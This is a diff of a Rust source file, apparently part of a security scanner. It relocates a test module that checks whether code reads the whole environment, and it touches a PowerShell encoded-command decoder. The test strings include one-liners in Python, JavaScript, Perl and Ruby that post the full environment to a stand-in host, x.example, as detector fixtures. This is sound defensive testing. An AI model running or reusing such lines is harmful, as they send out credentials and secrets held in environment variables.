@@ -132,23 +132,6 @@ const READ_KEYWORDS: &[&str] = &[
 ];
 
 /// The (lowercased) code uses a network API.
-#[cfg(test)]
-mod environment_tests {
-    use super::reads_whole_environment as whole;
-
-    #[test]
-    fn whole_environment_versus_one_variable() {
-        assert!(whole("import os,requests; requests.post('https://x.example', json=dict(os.environ))"));
-        assert!(whole("fetch('https://x.example',{method:'POST',body:JSON.stringify(process.env)})"));
-        assert!(whole("print(os.environ.items())"));
-        assert!(whole("use LWP::Simple; post(join ',', %ENV)"));
-        assert!(whole("Net::HTTP.post_form(URI('https://x.example'), ENV.to_h)"));
-        assert!(!whole("requests.get(u, headers={'Authorization': os.environ['GH_TOKEN']})"));
-        assert!(!whole("fetch(process.env.API_URL)"));
-        assert!(!whole("os.environ.get('HOME')"));
-    }
-}
-
 pub(super) fn code_is_net(code_lc: &str) -> bool {
     NET_KEYWORDS.iter().any(|k| code_lc.contains(k))
 }
@@ -320,4 +303,21 @@ pub(super) fn decode_ps_encoded(s: &str) -> String {
     let bytes = base64_decode(s);
     let u16s: Vec<u16> = bytes.chunks(2).map(|c| u16::from_le_bytes([c[0], *c.get(1).unwrap_or(&0)])).collect();
     String::from_utf16_lossy(&u16s)
+}
+
+#[cfg(test)]
+mod environment_tests {
+    use super::reads_whole_environment as whole;
+
+    #[test]
+    fn whole_environment_versus_one_variable() {
+        assert!(whole("import os,requests; requests.post('https://x.example', json=dict(os.environ))"));
+        assert!(whole("fetch('https://x.example',{method:'POST',body:JSON.stringify(process.env)})"));
+        assert!(whole("print(os.environ.items())"));
+        assert!(whole("use LWP::Simple; post(join ',', %ENV)"));
+        assert!(whole("Net::HTTP.post_form(URI('https://x.example'), ENV.to_h)"));
+        assert!(!whole("requests.get(u, headers={'Authorization': os.environ['GH_TOKEN']})"));
+        assert!(!whole("fetch(process.env.API_URL)"));
+        assert!(!whole("os.environ.get('HOME')"));
+    }
 }
